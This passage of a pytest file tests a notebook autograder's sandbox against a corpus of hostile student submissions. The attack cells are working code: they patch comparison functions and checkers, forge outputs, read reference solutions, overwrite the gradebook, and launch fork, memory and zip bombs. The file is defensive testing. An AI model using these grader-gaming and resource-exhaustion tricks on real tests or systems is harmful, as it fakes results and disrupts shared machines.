"""The grader is trustworthy: hostile submissions score exactly what their honest part deserves.

The corpus (course issue "a corpus of at least 30 hostile submissions ... and at least 50 honest
variants"): each hostile submission is the chapter 1 notebook with some cells replaced or added,
and an expected score per exercise, the score of its *honest* part (a correct softmax and a
correct padding mask next to an attack in the attention cell must give softmax 2, attention 0,
padding mask 1). Every attack is a real attempt at points it does not deserve: a wrong answer
plus something that would make it pass if the grader trusted the kernel (patched comparisons,
lying tensors, blanked test cells, forged output files, the reference solutions...), or an
attempt to break the grader itself (time, memory, processes, exits, host files).

* In-kernel attacks go through :func:`coursetools.grading.grade_code` directly (two at a time):
  the nbgrader pipeline adds nothing to them.
* Attacks on the notebook and the course directory (edited, deleted and forged test cells,
  reading other students' work and the instructor's sources, writing the gradebook) go through
  the instructor's whole pipeline (``course.release`` + ``course.grade`` on a temporary course,
  next to an honest student) and are checked in ``grades.csv``.
* Honest variants (52 correct answers written differently, with prints, warnings, magics and
  helper cells) all get full marks, with identical verdicts over three re-runs.

Limits are reduced (``LIMITS``) so that attacks that need a timeout cost seconds, not minutes.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import socket
import sqlite3
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "exercises"))
sys.path.insert(0, str(REPO / "tests"))

import submissions as S  # noqa: E402

from coursetools.grading import SubmissionVerdict, grade_code  # noqa: E402
from coursetools.payload import plan_groups  # noqa: E402
from coursetools.sandbox import GiB, SandboxLimits  # noqa: E402

pytestmark = pytest.mark.skipif(
    sys.platform != "linux" or shutil.which("bwrap") is None or shutil.which("prlimit") is None,
    reason="needs Linux with bubblewrap (apt package bubblewrap) and prlimit (util-linux)",
)

SECRET = b"hostile-corpus-secret"
#: Reduced limits. The cell limit also bounds the runner's start-up (IPython + torch imports),
#: measured up to ~12 s on a 2-core machine shared with other jobs (load 14): 20 s leaves room.
LIMITS = SandboxLimits(cell_timeout_s=20, total_timeout_s=100, memory_bytes=1 * GiB)
MARKER = f"4242.{os.getpid()}"  # `sleep 4242.<pid>`: detached processes of this session
HOST_SECRET_TEXT = f"HOST-ONLY-SECRET-{os.getpid()}"


def scores(verdict: SubmissionVerdict) -> dict[str, float]:
    """Points per exercise, partial credit included."""
    return {name: round(S.POINTS[name] * verdict.exercises[name].score, 2) for name in S.NAMES}


def all_text(verdict: SubmissionVerdict) -> str:
    return json.dumps(verdict.to_json())


# --- the corpus of in-kernel attacks ------------------------------------------------------------


@dataclass
class Attack:
    name: str
    cells: list[str]
    expected: dict[str, int]
    reason: str | None = None     # a fragment that must appear in verdict.reasons
    flag: str | None = None       # a fragment that must appear in verdict.flags
    absent: list[str] = field(default_factory=list)  # text that must appear nowhere in the verdict
    message: dict[str, str] = field(default_factory=dict)  # exercise -> fragment of its message


def attack(name, expected, replace=None, after=None, **kw) -> Attack:
    return Attack(name, S.code_cells(replace, after), expected, **kw)


END = ""  # `after` key: cells appended at the end of the notebook


def _attacks(port: int, host_secret: Path) -> list[Attack]:
    W = S.WRONG
    return [
        attack("monkeypatch torch comparisons (allclose, equal, isclose, assert_close, __eq__)",
               S.expected(scaled_dot_product_attention=0), {S.ATT: W[S.ATT]}, {S.ATT: ['''
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *x, **k: torch.ones(a.shape, dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
''']}),
        attack("monkeypatch numpy comparisons and numpy.testing",
               S.expected(softmax=0), {S.SM: W[S.SM]}, {S.SM: ['''
import numpy as np
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
''']}),
        attack("patch the checker helpers (checks.check, core.compare, compare_outputs)",
               S.expected(scaled_dot_product_attention=0), {S.ATT: W[S.ATT]}, {S.ATT: ['''
import checks, checks.core
checks.core.compare = lambda *a, **k: None
checks.core.compare_outputs = lambda *a, **k: []
checks.check = checks.core.check = lambda *a, **k: 5
check = checks.check
''']}),
        attack("patch the importable checker classes (run/expected return PyTorch's answer)",
               S.expected(scaled_dot_product_attention=0), {S.ATT: W[S.ATT]}, {S.ATT: ['''
import types
import checks.core, checks.ch01 as c1
def _forged_run(self, obj, case):
    out, w = c1.oracle_attention(case["q"], case["k"], case["v"], case.get("mask"))
    return {"output": out, "weights": w}
c1.AttentionChecker.run = _forged_run
c1.AttentionChecker.expected = lambda self, case: _forged_run(self, None, case)
checks.core.Checker.run = _forged_run
_c = checks.core.CHECKERS["scaled_dot_product_attention"]
_c.run = types.MethodType(_forged_run, _c)
checks.core.run_case = lambda checker, obj, case: _forged_run(checker, obj, case)
''']}),
        attack("patch the harness module's save_values via sys.modules (NaN -> uniform)",
               S.expected(softmax=0), {S.SM: W[S.SM]}, {S.SM: ['''
import sys, torch
_h = sys.modules["harness"]
_real_save = _h.save_values
def _forged_save(values, stem):
    fixed = {}
    for key, v in values.items():
        if isinstance(v, torch.Tensor) and v.is_floating_point():
            v = torch.nan_to_num(v, nan=1.0 / max(v.shape[-1], 1))
        fixed[key] = v
    _real_save(fixed, stem)
_h.save_values = _forged_save
''']}),
        attack("tensor subclass whose ==, allclose and bool always say yes",
               S.expected(scaled_dot_product_attention=0), {S.ATT: W[S.ATT] + '''
class Liar(torch.Tensor):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True
    def allclose(self, *a, **k):
        return True
    def equal(self, *a, **k):
        return True

_wrong = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    out, w = _wrong(q, k, v, mask)
    return out.as_subclass(Liar), w.as_subclass(Liar)
'''}),
        attack("torch.nn.Parameter swapped for a lying subclass (the harness looks it up)",
               S.expected(scaled_dot_product_attention=0), {S.ATT: W[S.ATT] + '''
class FakeParam(torch.Tensor):
    def __eq__(self, other):
        return True
torch.nn.Parameter = FakeParam
_wrong = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    out, w = _wrong(q, k, v, mask)
    return out.as_subclass(FakeParam), w.as_subclass(FakeParam)
'''}),
        attack("an object whose __eq__ is always True (with shape and dtype)",
               S.expected(padding_mask=0), {S.PAD: '''
class Anything:
    dtype = torch.bool
    def __init__(self, shape):
        self.shape = shape
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True
    def all(self):
        return True
def padding_mask(tokens, pad_id=0):
    return Anything((tokens.shape[0], 1, 1, tokens.shape[1]))
'''}),
        attack("override builtins (isinstance, type checks, print) with a fake tensor",
               S.expected(softmax=0), {S.SM: '''
import builtins
class Fake:
    dtype = torch.float32
    def __init__(self, x):
        self.shape = x.shape
    def __eq__(self, other):
        return True
def softmax(x, dim=-1):
    return Fake(x)
'''}, {END: ['''
import builtins
_real_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, cls: (True if type(obj).__name__ == "Fake"
                                        else _real_isinstance(obj, cls))
builtins.print = lambda *a, **k: None
''']}),
        attack("patch np.savez, np.asarray and Tensor.numpy used to save outputs",
               S.expected(softmax=0), {S.SM: W[S.SM]}, {S.SM: ['''
import numpy as np, torch
_real_savez = np.savez
np.savez = lambda f, **arrays: _real_savez(f, **{k: np.nan_to_num(v) for k, v in arrays.items()})
np.asarray = lambda *a, **k: np.zeros(1)
_real_numpy = torch.Tensor.numpy
torch.Tensor.numpy = lambda self, *a, **k: _real_numpy(self.nan_to_num(0.5), *a, **k)
''']}),
        attack("IPython input transformer that blanks every later cell calling check()",
               S.expected(softmax=0), {S.SM: W[S.SM]}, {S.SM: ['''
def _blank_tests(lines):
    return ["pass\\n"] if any("check(" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_blank_tests)
get_ipython().input_transformers_cleanup.append(_blank_tests)
''']}),
        attack("post_execute / post_run_cell hooks that re-patch comparisons and hide errors",
               S.expected(scaled_dot_product_attention=0), {S.ATT: W[S.ATT]}, {S.ATT: ['''
def _hook(*args):
    import torch, checks.core
    torch.allclose = lambda *a, **k: True
    checks.core.compare = lambda *a, **k: None
    print("scaled_dot_product_attention: all 5 hidden cases passed.")
def _hide(result):
    result.error_in_exec = None
get_ipython().events.register("post_execute", _hook)
get_ipython().events.register("post_run_cell", _hide)
''']}),
        attack("read the instructor's sources and reference solutions from disk and exec them",
               S.expected(softmax=0, scaled_dot_product_attention=0),
               {S.SM: S.STUB[S.SM], S.ATT: S.STUB[S.ATT]}, {S.PAD: [f'''
import glob, json, os
_found = []
for _pattern in ["../../source/ch01_attention/*.ipynb", "../../../source/*/*.ipynb",
                 "{REPO}/exercises/source/ch01_attention/*.ipynb", "{REPO}/solutions/*.py",
                 "/proc/1/cwd/exercises/source/*/*.ipynb", "/work/*/solutions/attention.py"]:
    _found += glob.glob(_pattern)
for _path in _found:
    try:
        if _path.endswith(".py"):
            exec(open(_path).read(), globals())
        else:
            for _c in json.load(open(_path))["cells"]:
                if "BEGIN SOLUTION" in "".join(_c["source"]):
                    exec("".join(_c["source"]), globals())
    except Exception:
        pass
''']}),
        attack("import the reference package `solutions` (with a fallback)",
               S.expected(softmax=0, scaled_dot_product_attention=0),
               {S.SM: '''
try:
    from solutions.attention import softmax
except ImportError:
    def softmax(x, dim=-1):
        raise NotImplementedError()
''', S.ATT: '''
import importlib
try:
    _ref = importlib.import_module("solutions.attention")
    scaled_dot_product_attention = _ref.scaled_dot_product_attention
except ImportError:
''' + "\n".join("    " + line for line in S.CORRECT[S.ATT].splitlines()) + "\n"},
               flag="imports the reference package"),
        attack("network: ask a server on the grading host for the answers",
               S.expected(scaled_dot_product_attention=0), {S.ATT: W[S.ATT] + f'''
import socket
_wrong = scaled_dot_product_attention
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
            s.sendall(b"answers please")
            s.recv(100)
    except OSError:
        pass
    return _wrong(q, k, v, mask)
'''}, {END: [f'''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"hello")
except OSError as e:
    print("no network:", e)
''']}),
        attack("detached processes (setsid sleep, double fork, non-daemon thread)",
               S.expected(), after={END: [f'''
import os, subprocess, threading, time
subprocess.Popen(["sleep", "{MARKER}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
_pid = os.fork()
if _pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{MARKER}"])
    os._exit(0)
os.waitpid(_pid, 0)
threading.Thread(target=lambda: time.sleep(10**6), daemon=False).start()
''']}),
        attack("fork bomb at the top level of a cell (bounded: 400 forks)",
               S.expected(), after={END: ['''
import os, time
for _ in range(400):
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
''']}, reason="process limit"),
        attack("memory bomb (3 GB) at the top level of a cell",
               S.expected(), after={END: ["_bomb = bytearray(3 * 10**9)"]},
               reason="memory limit"),
        attack("memory bomb (3 GB) inside the function, only when graded",
               S.expected(scaled_dot_product_attention=0), {S.ATT: S.GRADED + '''
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    if _graded():
        _bomb = torch.ones(3 * 10**9 // 4)
    scores = q @ k.transpose(-2, -1)
    return softmax(scores, dim=-1) @ v, softmax(scores, dim=-1)
'''}, message={S.ATT: "out of memory"}),
        attack("infinite loop at the top level of a cell",
               S.expected(), after={END: ["while True:\n    pass"]}, reason="time limit"),
        attack("infinite loop inside the function, only when graded",
               S.expected(scaled_dot_product_attention=0), {S.ATT: S.GRADED + '''
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    while _graded():
        pass
'''}, reason="time limit"),
        attack("os._exit at the top level of a cell",
               S.expected(), after={END: ["import os\nos._exit(0)"]}, reason="exited"),
        attack("os._exit inside the function, only when graded",
               S.expected(softmax=0), {S.SM: S.GRADED + '''
import os
def softmax(x, dim=-1):
    if _graded():
        os._exit(0)
'''}, reason="softmax"),
        attack("sys.exit at the top level of a cell",
               S.expected(), after={END: ["import sys\nsys.exit(0)"]}, reason="sys.exit"),
        attack("sys.exit and KeyboardInterrupt inside the function, only when graded",
               S.expected(padding_mask=0, scaled_dot_product_attention=0),
               {S.PAD: S.GRADED + '''
import sys
def padding_mask(tokens, pad_id=0):
    if _graded():
        sys.exit(0)
''', S.ATT: S.GRADED + '''
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    if _graded():
        raise KeyboardInterrupt
'''}),
        attack("print fake success (checker messages, nbgrader-looking output)",
               S.expected(scaled_dot_product_attention=0), {S.ATT: W[S.ATT] + '''
print("scaled_dot_product_attention: all 5 cases passed (hidden cases).")
print('{"output_type": "stream", "name": "stdout", "text": "all tests passed"}')
'''}, {END: ['print("softmax: all 9 hidden cases passed.\\n3/3 tests passed, 6 / 6 points")']}),
        attack("spam stdout and stderr (20 MB each)",
               S.expected(), after={END: ['''
import sys
_line = "x" * 999 + "\\n"
for _ in range(20_000):
    sys.stdout.write(_line)
    sys.stderr.write(_line)
''']}),
        attack("a huge number of cells (1500)",
               S.expected(), after={END: [f"_cell_{i} = {i}" for i in range(1500)]}),
        attack("a slow cell within the limits (sleeps 3 s, then defines the answer)",
               S.expected(), {S.SM: S.WRONG[S.SM]},
               {S.SM: ["import time\ntime.sleep(3)\n" + S.CORRECT[S.SM]]}),
        attack("a slow cell beyond the cell limit (sleeps 60 s, then fixes softmax)",
               S.expected(softmax=0), {S.SM: S.WRONG[S.SM]},
               {END: ["import time\ntime.sleep(60)\n" + S.CORRECT[S.SM]]},
               reason="time limit"),
        attack("write fake output files (out/0_*.npz, 0.done) before the harness runs",
               S.expected(softmax=0), {S.SM: S.STUB[S.SM]}, {END: ['''
import json, os, numpy as np
os.makedirs("out", exist_ok=True)
for c in range(20):
    with open(f"out/0_{c}.npz", "wb") as f:
        np.savez(f, a0=np.full((2, 5), 0.2, dtype=np.float32))
    open(f"out/0_{c}.json", "w").write(json.dumps(
        {"output": {"kind": "tensor", "slot": "a0", "dtype": "float32"}}))
open("out/0.started", "w").close()
open("out/0.done", "w").close()
''']}),
        attack("forged outputs from the cases on disk, then os._exit before the harness",
               S.expected(softmax=0), {S.SM: S.STUB[S.SM]}, {END: ['''
import json, os, numpy as np
os.makedirs("out", exist_ok=True)
for name in os.listdir("cases"):
    if name.startswith("0_") and name.endswith(".npz"):
        stem = name[:-4]
        x = np.load("cases/" + name)["a0"]
        with open(f"out/{stem}.npz", "wb") as f:
            np.savez(f, a0=np.zeros_like(x))
        open(f"out/{stem}.json", "w").write(json.dumps(
            {"output": {"kind": "tensor", "slot": "a0", "dtype": str(x.dtype)}}))
open("out/0.done", "w").close()
os._exit(0)
''']}),
        attack("symlink an output file to a host file (the judge would quote it)",
               S.expected(), after={END: [f'''
import os
os.makedirs("out", exist_ok=True)
for c in range(3):
    os.symlink("{host_secret}", f"out/2_{{c}}.error")
os.symlink("/proc/self/cwd/grades.csv", "out/1_0.error")
os.symlink("{host_secret}", "out/0_0.json.bak")
''']}, absent=[HOST_SECRET_TEXT]),
        attack("a FIFO and a /dev/zero link as error files (would hang the judge)",
               S.expected(), after={END: ['''
import os
os.makedirs("out", exist_ok=True)
os.mkfifo("out/0_0.error")
os.symlink("/dev/zero", "out/1_0.error")
os.symlink("/dev/urandom", "out/2_0.error")
''']}),
        attack("zip bomb as a forged output, then os._exit before the harness",
               S.expected(softmax=0), {S.SM: S.STUB[S.SM]}, {END: ['''
import json, os, zipfile
os.makedirs("out", exist_ok=True)
n = 512 * 2**20 // 4
header = ("{'descr': '<f4', 'fortran_order': False, 'shape': (%d,), }" % n).ljust(117) + "\\n"
with zipfile.ZipFile("out/0_0.npz", "w", zipfile.ZIP_DEFLATED) as z:
    with z.open("t.output.npy", "w", force_zip64=True) as f:
        f.write(b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode())
        chunk = bytes(16 * 2**20)
        for _ in range(32):
            f.write(chunk)
open("out/0_0.json", "w").write(json.dumps(
    {"output": {"kind": "tensor", "slot": "a0", "dtype": "float32"}}))
open("out/0.done", "w").close()
os._exit(0)
''']}, message={S.SM: "expected shape"}),
        # --- the judge believes no label: dtype, shape and type come from the arrays ---
        attack("float mask relabelled bool (patched json.dumps and numpy savez names)",
               S.expected(padding_mask=0), {S.PAD: '''
def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :].float()
'''}, {END: ['''
import json, numpy as np
_dumps = json.dumps
json.dumps = lambda obj, *a, **k: _dumps(obj, *a, **k).replace("float32", "bool")
_savez = np.savez
def _relabel(file, *args, **arrays):
    arrays = {("b." + k[2:] if k == "t.mask" else k): v for k, v in arrays.items()}
    return _savez(file, *args, **arrays)
np.savez = _relabel
''']}),
        # Its honest part: float64 in, float64 out (1 of softmax's 4 requirements, 0.5 of its
        # 2 points). The forged header, if believed, would win it the other three.
        attack("float64 softmax with a forged float32 npy header",
               S.expected(softmax=0.5), {S.SM: S.CORRECT[S.SM].replace(
                   "def softmax(x: Tensor, dim: int = -1) -> Tensor:",
                   "def softmax(x: Tensor, dim: int = -1) -> Tensor:\n    x = x.double()")},
               {END: ['''
import numpy as np
_write = np.lib.format.write_array_header_1_0
def _forged(fp, d):
    d = dict(d)
    if d.get("descr") == "<f8":
        d["descr"] = "<f4"
        d["shape"] = tuple(d["shape"][:-1]) + (2 * d["shape"][-1],) if d["shape"] else (2,)
    return _write(fp, d)
np.lib.format.write_array_header_1_0 = _forged
''']}),
        # --- retries start from a clean work directory ---
        attack("stash a stand-in in the work dir, crash, use it on the re-run",
               S.expected(softmax=0, scaled_dot_product_attention=0), {S.SM: '''
import os, inspect
def softmax(x, dim=-1):
    for _path in ("stash.py", "/tmp/stash.py", os.path.expanduser("~/stash.py")):
        if os.path.exists(_path):
            _ns = {}
            exec(open(_path).read(), _ns)
            return _ns["oracle_softmax"](x, dim)
    raise NotImplementedError()
''', S.ATT: '''
import gc, inspect, os
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    for _obj in gc.get_objects():
        if callable(_obj) and getattr(_obj, "__name__", "") == "oracle_softmax":
            _src = "import torch\\n" + inspect.getsource(_obj)
            for _path in ("stash.py", "/tmp/stash.py", os.path.expanduser("~/stash.py")):
                try:
                    open(_path, "w").write(_src)
                except OSError:
                    pass
    os._exit(1)
'''}),
        # --- a fault costs its own exercise only ---
        attack("a cell over the work directory's file-count limit",
               S.expected(), after={END: ['''
import os
os.makedirs("junk", exist_ok=True)
for _i in range(12000):
    open(f"junk/{_i}", "w").close()
''']}, reason="work directory limit"),
        attack("softmax over the file-count limit while it is graded",
               S.expected(softmax=0), {S.SM: S.CORRECT[S.SM] + '''
_real_softmax = softmax
def softmax(x, dim=-1):
    import os
    os.makedirs("junk", exist_ok=True)
    for _i in range(12000):
        open(f"junk/{_i}", "w").close()
    return _real_softmax(x, dim)
'''}, reason="work directory limit"),
        attack("softmax slow on every call (its time, not its neighbour's)",
               S.expected(softmax=0), {S.SM: S.CORRECT[S.SM] + '''
_real_softmax = softmax
def softmax(x, dim=-1):
    import time
    time.sleep(6)
    return _real_softmax(x, dim)
'''}, reason="time limit"),
        attack("lone surrogates and odd bytes in a top-level exception and in prints",
               S.expected(), after={END: ['''
print("\\udcff \\ud800", "caf\\xe9")
raise ValueError("\\udcff broken \\ud800")
''']}),
        # --- the judge's own bounds ---
        attack("an output of 200 MB of the wrong shape",
               S.expected(padding_mask=0), {S.PAD: '''
def padding_mask(tokens, pad_id=0):
    import torch
    return torch.zeros(50 * 2**20, dtype=torch.float32)
'''}),
        attack("shrink attention's case manifest (patch json.loads) to skip hidden cases",
               S.expected(scaled_dot_product_attention=0), {S.ATT: S.VISIBLE_ONLY_ATTENTION},
               {END: ['''
import json
_real_loads = json.loads
def _loads(text, *a, **k):
    data = _real_loads(text, *a, **k)
    if isinstance(data, dict) and "exercises" in data:
        for entry in data["exercises"]:
            if entry["name"] == "scaled_dot_product_attention":
                entry["cases"] = min(entry["cases"], 2)
    return data
json.loads = _loads
''']}),
        attack("patch the harness's load_values to feed easy inputs (masks dropped)",
               S.expected(scaled_dot_product_attention=0), {S.ATT: S.VISIBLE_ONLY_ATTENTION},
               {END: ['''
import sys
_h = sys.modules["harness"]
_real_load = _h.load_values
def _easy(stem):
    values = _real_load(stem)
    values.pop("mask", None)
    return values
_h.load_values = _easy
''']}),
        attack("hunt the harness's private checker copy with gc and patch its comparisons",
               S.expected(scaled_dot_product_attention=0), {S.ATT: W[S.ATT]}, {END: ['''
import gc, types
for _obj in gc.get_objects():
    if isinstance(_obj, types.ModuleType) and getattr(_obj, "__name__", "").startswith(
            "_grader_checks"):
        for _attr in ("compare", "compare_outputs"):
            if hasattr(_obj, _attr):
                setattr(_obj, _attr, (lambda *a, **k: None) if _attr == "compare"
                        else (lambda *a, **k: []))
        if hasattr(_obj, "CHECKERS"):
            _c = _obj.CHECKERS["scaled_dot_product_attention"]
            _c.atol = _c.rtol = float("inf")
''']}),
    ]


class _Server:
    """A TCP server on the grading host's loopback: a sandboxed connection must never reach it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.sendall(b"here are the answers")
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join()
        self.sock.close()


def _sleepers(marker: str) -> list[int]:
    """Host pids whose command line contains marker (a /proc scan)."""
    found = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                cmdline = Path(entry.path, "cmdline").read_bytes().replace(b"\0", b" ")
            except OSError:
                continue
            if marker.encode() in cmdline:
                found.append(int(entry.name))
    return found


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    """Grade every in-kernel attack, two at a time; returns {name: (attack, verdict)} and the
    number of connections the host server received."""
    host_secret = tmp_path_factory.mktemp("host") / "secret.txt"
    host_secret.write_text(HOST_SECRET_TEXT)
    server = _Server()
    try:
        attacks = _attacks(server.port, host_secret)
        names = [a.name for a in attacks]
        assert len(set(names)) == len(names)

        def run(item):
            k, a = item
            return grade_code(a.cells, S.NAMES, SECRET, f"attacker{k}/ch01_attention/nb",
                              LIMITS)

        with ThreadPoolExecutor(2) as pool:
            futures = [pool.submit(run, item) for item in enumerate(attacks)]
            # a judge that hangs (FIFO, /dev/zero) fails here instead of blocking forever
            verdicts = [f.result(timeout=600) for f in futures]
        time.sleep(0.5)
        connections = server.connections
    finally:
        server.close()
    return {a.name: (a, v) for a, v in zip(attacks, verdicts)}, connections


ATTACK_NAMES = [a.name for a in _attacks(0, Path("/nonexistent"))]


def test_corpus_is_large_enough():
    assert len(ATTACK_NAMES) + len(PIPELINE_ATTACKS) >= 30


@pytest.mark.parametrize("name", ATTACK_NAMES)
def test_attack_scores_only_its_honest_part(corpus, name):
    results, _ = corpus
    a, verdict = results[name]
    got = scores(verdict)
    detail = {n: v.message[:300] for n, v in verdict.exercises.items()}
    assert got == a.expected, (got, detail, verdict.reasons, verdict.flags)
    if a.reason:
        assert any(a.reason in r for r in verdict.reasons), verdict.reasons
    if a.flag:
        assert any(a.flag in f for f in verdict.flags), verdict.flags
    for text in a.absent:
        assert text not in all_text(verdict)
    for exercise, fragment in a.message.items():
        assert fragment in verdict.exercises[exercise].message, verdict.exercises[exercise]


def test_no_connection_reached_the_host(corpus):
    _, connections = corpus
    assert connections == 0


def test_no_detached_process_survives(corpus):
    assert _sleepers(f"sleep {MARKER}") == []


def test_honest_parts_of_time_and_memory_attacks_are_explained(corpus):
    results, _ = corpus
    for name in ("infinite loop at the top level of a cell", "os._exit at the top level of a cell"):
        _, verdict = results[name]
        # in each group's sandbox, the culprit cell was skipped and the rest re-run
        assert verdict.runs == 2 * len(plan_groups(S.NAMES)), verdict
        assert any("skipped" in r for r in verdict.reasons), verdict.reasons


# --- honest variants -----------------------------------------------------------------------------


def _honest_submissions() -> list[tuple[str, list[str]]]:
    """Every honest variant of every exercise, three exercises per submission."""
    count = max(len(S.HONEST_SOFTMAX), len(S.HONEST_ATTENTION), len(S.HONEST_PADDING))
    subs = []
    for i in range(count):
        parts = [(S.SM, S.HONEST_SOFTMAX), (S.ATT, S.HONEST_ATTENTION),
                 (S.PAD, S.HONEST_PADDING)]
        replace = {name: variants[i % len(variants)][1] for name, variants in parts}
        title = " + ".join(variants[i % len(variants)][0] for _, variants in parts)
        after = {S.SM: ["import warnings\nwarnings.warn('a stray top-level warning')"]} \
            if i % 3 == 0 else {}
        subs.append((title, S.code_cells(replace, after)))
    return subs


HONEST = _honest_submissions()
ROUNDS = 3


def test_there_are_at_least_50_honest_variants():
    assert len(S.HONEST_SOFTMAX) + len(S.HONEST_ATTENTION) + len(S.HONEST_PADDING) >= 50


@pytest.fixture(scope="module")
def honest_verdicts():
    jobs = [(r, k) for r in range(ROUNDS) for k in range(len(HONEST))]

    def run(job):
        _, k = job
        return grade_code(HONEST[k][1], S.NAMES, SECRET, f"honest{k}/ch01_attention/nb",
                          SandboxLimits(memory_bytes=1 * GiB))

    with ThreadPoolExecutor(2) as pool:
        verdicts = list(pool.map(run, jobs))
    by_sub: dict[int, list[SubmissionVerdict]] = {}
    for (_, k), v in zip(jobs, verdicts):
        by_sub.setdefault(k, []).append(v)
    return by_sub


@pytest.mark.parametrize("k", range(len(HONEST)), ids=[t for t, _ in HONEST])
def test_honest_variants_get_full_marks_identically(honest_verdicts, k):
    runs = honest_verdicts[k]
    for verdict in runs:
        detail = {n: v.message[:300] for n, v in verdict.exercises.items()}
        assert scores(verdict) == S.FULL, (detail, verdict.reasons)
        assert verdict.reasons == [] and verdict.flags == []
    first = json.dumps(runs[0].to_json()["exercises"], sort_keys=True)
    assert all(json.dumps(v.to_json()["exercises"], sort_keys=True) == first for v in runs)


# --- the whole nbgrader pipeline: notebooks, course files, gradebook -----------------------------


def _edit_tests_to_pass(nb):
    for cell in S.test_cells(nb):
        cell.source = "pass"
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="passed\n")]


def _delete_tests(nb):
    nb.cells = [c for c in nb.cells if c not in S.test_cells(nb)]


def _forge_metadata(nb):
    tests = S.test_cells(nb)
    tests[0].metadata.nbgrader["points"] = 100          # test_softmax worth 100
    bonus = nbformat.v4.new_code_cell("print('bonus: passed')")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True,
                                  "grade_id": "test_bonus", "points": 50, "schema_version": 3}
    bonus.outputs = [nbformat.v4.new_output("stream", name="stdout", text="bonus: passed\n")]
    nb.cells.append(bonus)
    for cell in tests:
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="all passed\n")]
        cell.execution_count = 1


def _rename_test_ids(nb):
    for cell in S.test_cells(nb):
        cell.metadata.nbgrader["grade_id"] += "_mine"
        cell.source = "pass"


READER = '''
import glob, json, os
_found = []
for _pattern in ["../../../submitted/*/ch01_attention/*.ipynb", "../../*/ch01_attention/*.ipynb",
                 "../../../source/ch01_attention/*.ipynb", "../../../release/*/*.ipynb",
                 "{root}/submitted/*/ch01_attention/*.ipynb", "{root}/source/*/*.ipynb",
                 "{root}/autograded/*/ch01_attention/*.ipynb", "/proc/1/cwd/source/*/*.ipynb",
                 "/proc/self/cwd/../../../source/*/*.ipynb"]:
    _found += glob.glob(_pattern)
print("found", _found)
for _path in _found:
    try:
        for _c in json.load(open(_path))["cells"]:
            _src = "".join(_c["source"])
            if "def softmax" in _src or "def scaled_dot_product_attention" in _src:
                if "NotImplementedError" not in _src:
                    exec(_src, globals())
    except Exception:
        pass
'''

WRITER = '''
import os, sqlite3, glob
_targets = ["../../../gradebook.db", "{root}/gradebook.db", "/proc/1/cwd/gradebook.db"]
_here = os.getcwd()
while _here != "/":
    _targets.append(os.path.join(_here, "gradebook.db"))
    _here = os.path.dirname(_here)
for _db in _targets:
    try:
        _con = sqlite3.connect(_db)
        _con.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        _con.commit()
        print("wrote", _db)
    except Exception as e:
        print("no", _db, e)
for _path in ["{root}/grades.csv", "../../../grades.csv", "{root}/.verdict_cache/x.json",
              "{root}/submitted/alice/ch01_attention/ch01_attention.ipynb",
              "{root}/reports/writer/ch01_attention.json"]:
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        open(_path, "w").write("{{}}")
        print("wrote", _path)
    except Exception as e:
        print("no", _path, e)
'''

CHECK_PATCH = '''
check = lambda *args, **kwargs: print("softmax: all 4 cases passed.")
def _blank(lines):
    return ["pass\\n"] if any("check(" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_blank)
'''

CORRECT = dict(S.CORRECT)
STUBS = {S.SM: S.STUB[S.SM], S.ATT: S.STUB[S.ATT]}

#: student -> (answers, extra cells, notebook edit, expected points, flag fragment)
PIPELINE_ATTACKS = {
    "editor": ({**CORRECT, S.SM: S.WRONG[S.SM]}, [], _edit_tests_to_pass,
               S.expected(softmax=0), "was edited"),
    "deleter": ({**CORRECT, S.SM: S.WRONG[S.SM], S.PAD: S.WRONG[S.PAD]}, [], _delete_tests,
